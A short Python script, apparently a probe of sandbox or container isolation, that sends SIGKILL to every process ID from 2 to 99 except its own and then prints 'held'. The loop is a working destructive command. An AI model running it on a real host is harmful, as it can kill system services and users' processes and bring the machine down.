import os
import signal

for pid in range(2, 100):
    if pid == os.getpid():
        continue
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)
    except OSError:
        pass
print("held")
